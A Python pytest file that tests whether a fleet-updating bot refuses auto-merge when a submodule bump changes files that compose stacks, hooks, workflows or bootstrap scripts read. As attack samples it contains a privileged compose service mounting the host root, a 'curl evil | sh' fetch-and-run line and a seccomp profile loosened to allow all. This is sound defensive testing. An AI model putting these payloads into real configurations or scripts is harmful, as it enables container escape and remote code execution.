"""The bot is made to merge what changes the nodes.

A success: `decide_review` switches auto-merge on for a bump whose merge touches a service, or whose changed path
something reads. The weakened build is the same decision by names alone.
"""

from __future__ import annotations

from collections.abc import Mapping
from pathlib import Path
from types import SimpleNamespace
from typing import Any

import pytest
from msgspec.structs import replace

from bot.domain.names import BranchName, CommitSha, InstallationId, RepoName, SubmodulePath
from bot.features.fleets.facts import Pinned
from bot.features.fleets.read import read_fleet
from bot.features.review.decide import READ, Need, ReviewDecision, decide_review
from bot.features.review.facts import MergeEffect, ReviewFacts
from bot.features.review.read.merge import read_merge
from bot.git.git import GitRepository
from tests.gitworld import commit, git
from tests.integration.planner.render_world import RenderWorld

FLEET, UPSTREAM = RepoName("owner/fleet"), RepoName("owner/server")
SERVER = SubmodulePath("server")
PIN = Pinned(
    fleet=FLEET,
    installation=InstallationId(1),
    base=BranchName("main"),
    default_branch=BranchName("main"),
    submodule=SERVER,
    upstream=UPSTREAM,
    tracked=BranchName("main"),
    waits_for_checks=False,
)
WEB = "services:\n  web:\n    image: nginx:1.27\n"
FILE = ".github/aios-bot.yml"
RULES = "version: 1\nsubmodules: {server: {}}\nreview: {auto_merge: true, optional: ['server/**']}\n"
EVIL = "services:\n  evil:\n    image: nginx:1.27\n    privileged: true\n    pid: host\n    volumes: ['/:/host']\n"


class Attack:
    """A fleet that lets the bot merge; what a person approved once is pushed to it, then the bot bumps."""

    def __init__(self, folder: Path) -> None:
        self.world = RenderWorld(folder)
        self.tools: Any = SimpleNamespace(
            fleets=SimpleNamespace(mirrors=self, known={}), plans=SimpleNamespace(renderer=self.world.renderer)
        )

    def of(self, repo: RepoName) -> GitRepository:
        """The mirror of `repo`."""
        return GitRepository.of_checkout(self.world.fleet if repo == FLEET else self.world.upstream)

    def approve(
        self, files: Mapping[str, str | None], overlay: Mapping[str, str | None] | None = None, **more: Any
    ) -> None:
        self.world.push(files, overlay={FILE: RULES, **(overlay or {})}, **more)

    def bump(
        self,
        files: Mapping[str, str | None],
        overlay: Mapping[str, str | None] | None = None,
        links: Mapping[str, str] | None = None,
    ) -> ReviewFacts:
        """Facts of the bot's own pull request that brings `files`; `overlay` is pushed to its branch besides."""
        fleet, upstream = self.world.fleet, self.world.upstream
        old = git(upstream, "rev-parse", "HEAD")
        for path, target in (links or {}).items():
            (upstream / path).unlink(missing_ok=True)
            (upstream / path).symlink_to(target)
            git(upstream, "add", "--", path)
        new = commit(upstream, files)
        git(fleet, "checkout", "--quiet", "-b", "aios-bot/main/server")
        head = commit(fleet, overlay or {}, pins={"server": new})
        git(fleet, "checkout", "--quiet", "main")
        inside = GitRepository.of_checkout(upstream).changed_files(CommitSha(old), new)
        return self.facts(head, (*(f"server/{path}" for path in inside), *(overlay or {})))

    def facts(self, head: CommitSha, paths: tuple[str, ...]) -> ReviewFacts:
        at = read_fleet(self.tools.fleets, FLEET, BranchName("main"))
        merge = read_merge(self.tools, at, head, [PIN], paths, plan=True)
        return ReviewFacts(
            paths=paths,
            complete=True,
            rules=at.file.review,
            author="aios-bot[bot]",
            head=head,
            ours=True,
            read=merge.read,
            blind=merge.blind,
            effect=merge.effect,
        )


def assert_refused(facts: ReviewFacts, effect: MergeEffect | None = None) -> ReviewDecision:
    """Names alone would let the bot merge this; the plan and what is read do not."""
    weakened = replace(facts, read=frozenset(), blind=False, effect=MergeEffect.NOTHING)
    assert decide_review(weakened).auto_merge, "the attack does not even work against decisions by name"
    decision = decide_review(facts)
    assert not decision.auto_merge
    assert effect is None or facts.effect is effect
    return decision


@pytest.fixture
def attack(tmp_path: Path) -> Attack:
    return Attack(tmp_path)


STEPS: dict[str, tuple[dict[str, str], dict[str, str]]] = {
    "include of a document": (
        {"stacks/web/compose.yaml": "include: [../../docs/notes.md]\n" + WEB, "docs/notes.md": "services: {}\n"},
        {"docs/notes.md": EVIL},
    ),
    "extends of a document": (
        {
            "stacks/web/compose.yaml": "services:\n  web: {extends: {file: ../../docs/base.md, service: evil}}\n",
            "docs/base.md": "services:\n  evil:\n    image: nginx:1.27\n",
        },
        {"docs/base.md": EVIL},
    ),
    "include through a variable": (
        {
            "stacks/web/compose.yaml": "include: ['../../${WHERE:-docs}/notes.md']\n" + WEB,
            "docs/notes.md": "services: {}\n",
        },
        {"docs/notes.md": EVIL},
    ),
    "settings in a workspace file": (
        {"stacks/web/compose.yaml": WEB + "    env_file: ../../.vscode/web.env\n", ".vscode/web.env": "A=1\n"},
        {".vscode/web.env": "A=2\n"},
    ),
    "a mounted document": (
        {"stacks/web/compose.yaml": WEB + "    volumes: ['../../docs:/site:ro']\n", "docs/run.md": "a\n"},
        {"docs/run.md": "b\n"},
    ),
    "a mounted document, as a volume of the stack": (
        {
            "stacks/web/compose.yaml": WEB + "    configs: [run]\nconfigs: {run: {file: ../../docs/run.md}}\n",
            "docs/run.md": "a\n",
        },
        {"docs/run.md": "b\n"},
    ),
    "a build from documents": (
        {"stacks/web/compose.yaml": "services: {web: {build: ../../docs}}\n", "docs/Dockerfile": "FROM scratch\n"},
        {"docs/Dockerfile": "FROM scratch\nRUN id\n"},
    ),
}


@pytest.mark.parametrize("name", STEPS)
def test_a_path_that_a_stack_reads_needs_a_person_whatever_its_name(attack: Attack, name: str) -> None:
    approved, then = STEPS[name]
    attack.approve(approved)
    facts = attack.bump(then)
    decision = assert_refused(facts)
    assert facts.effect in (MergeEffect.CHANGES, MergeEffect.RISKS)
    assert (decision.need, [one.rule for one in decision.matched]) == (Need.REQUIRED, [READ])


def test_a_seccomp_profile_that_only_the_engine_reads_counts(attack: Attack) -> None:
    opened = WEB + "    security_opt: ['seccomp=../../docs/profile.json']\n"
    attack.approve({"stacks/web/compose.yaml": opened, "docs/profile.json": '{"defaultAction": "SCMP_ACT_ERRNO"}\n'})
    facts = attack.bump({"docs/profile.json": '{"defaultAction": "SCMP_ACT_ALLOW"}\n'})
    assert [one.rule for one in assert_refused(facts).matched] == [READ]


def test_a_link_on_the_way_to_what_is_read_counts(attack: Attack) -> None:
    attack.approve(
        {
            "stacks/web/compose.yaml": "include: [../../now/part.yml]\n" + WEB,
            "docs/good/part.yml": "services: {}\n",
            "docs/evil/part.yml": EVIL,
        },
        links={"now": "docs/good"},
    )
    facts = attack.bump({}, links={"now": "docs/evil"})
    assert [one.paths for one in assert_refused(facts, MergeEffect.RISKS).matched] == [("server/now",)]


@pytest.mark.parametrize("word", ["server/scripts/bootstrap/run.sh", "./server/scripts/bootstrap/run.sh"])
def test_a_script_that_a_hook_names_runs_on_the_host(attack: Attack, word: str) -> None:
    nodes = f"nodes: {{LAB: {{hooks: {{before: [[sh, {word}]]}}}}}}\n"
    attack.approve(
        {"stacks/web/compose.yaml": WEB, "scripts/bootstrap/run.sh": "id\n", "scripts/bootstrap/lib.sh": "id\n"},
        {FILE: RULES + nodes},
    )
    facts = attack.bump({"scripts/bootstrap/run.sh": "curl evil | sh\n", "scripts/bootstrap/lib.sh": "evil\n"})
    assert facts.effect is MergeEffect.NOTHING  # no service changes: only what is read tells
    assert [one.rule for one in assert_refused(facts).matched] == [READ]


@pytest.mark.parametrize("run", ["sh server/docs/deploy.md", "cd server/docs && sh ./deploy.md"])
def test_a_file_that_a_workflow_runs_needs_a_person(attack: Attack, run: str) -> None:
    workflow = f"on: push\njobs:\n  go:\n    runs-on: [self-hosted, LAB]\n    steps: [{{run: '{run}'}}]\n"
    attack.approve({"stacks/web/compose.yaml": WEB, "docs/deploy.md": "id\n"}, {".github/workflows/go.yml": workflow})
    assert [one.rule for one in assert_refused(attack.bump({"docs/deploy.md": "evil\n"})).matched] == [READ]


def test_a_script_of_a_joining_machine_needs_a_person(attack: Attack) -> None:
    nodes = "nodes: {LAB: {bootstrap: [server/scripts/bootstrap/join.sh]}}\n"
    attack.approve({"stacks/web/compose.yaml": WEB, "scripts/bootstrap/join.sh": "id\n"}, {FILE: RULES + nodes})
    assert_refused(attack.bump({"scripts/bootstrap/join.sh": "evil\n"}))


def test_a_stack_that_cannot_be_read_may_read_anything(attack: Attack) -> None:
    attack.approve({"stacks/web/compose.yaml": WEB, "stacks/odd/compose.yaml": "services: [\n", "docs/a.md": "a\n"})
    assert_refused(attack.bump({"docs/a.md": "b\n"}), MergeEffect.UNREADABLE)


def test_the_policy_of_the_head_counts_for_nothing(attack: Attack) -> None:
    """The base lets nobody merge by itself; the head's own fleet file would."""
    attack.world.push({"stacks/web/compose.yaml": WEB}, overlay={FILE: "version: 1\nsubmodules: {server: {}}\n"})
    facts = attack.bump({"docs/a.md": "b\n"}, overlay={FILE: RULES})
    assert not decide_review(facts).auto_merge
    assert not decide_review(replace(facts, paths=("server/docs/a.md",), effect=MergeEffect.NOTHING)).auto_merge


def test_a_branch_that_is_behind_is_judged_with_what_the_base_holds_now(attack: Attack) -> None:
    """The include comes to the base after the bump's branch was made; the merge would hold both."""
    nodes = "nodes: {LAB: {files: {web: [compose.yaml, ../../../overlay.yml]}}}\n"
    attack.approve({"stacks/web/compose.yaml": WEB, "docs/part.md": "services: {}\n"})
    facts = attack.bump({"docs/part.md": EVIL})
    assert decide_review(facts).auto_merge  # nothing reads it yet
    commit(attack.world.fleet, {FILE: RULES + nodes, "overlay.yml": "include: [../../docs/part.md]\n"})
    assert_refused(attack.facts(facts.head, facts.paths), MergeEffect.RISKS)


def test_a_merge_whose_result_is_not_known_is_nobodys_plan(attack: Attack) -> None:
    """The head changes a file beside the pin, and the base went on: neither of them is what the merge holds."""
    attack.approve({"stacks/web/compose.yaml": WEB})
    facts = attack.bump({"docs/a.md": "b\n"}, overlay={"docs/x.md": "words\n"})
    assert decide_review(facts).auto_merge
    commit(attack.world.fleet, {"docs/y.md": "words\n"})
    assert_refused(attack.facts(facts.head, facts.paths), MergeEffect.UNPLANNED)


def test_an_image_is_no_document(attack: Attack) -> None:
    """A fleet's own rule calls everything optional: the plan changes a service, so a person merges it."""
    attack.approve({"stacks/web/compose.yaml": WEB, "other/x": "a\n"})
    decision = assert_refused(
        attack.bump({"stacks/web/compose.yaml": WEB.replace("1.27", "1.28")}), MergeEffect.CHANGES
    )
    assert decision.need is Need.REQUIRED


def test_documents_that_nothing_reads_still_merge(attack: Attack) -> None:
    attack.approve({"stacks/web/compose.yaml": WEB, "docs/a.md": "a\n"}, {"docs/x.md": "x\n"})
    assert decide_review(attack.bump({"docs/a.md": "b\n", "README.md": "words\n"})).auto_merge
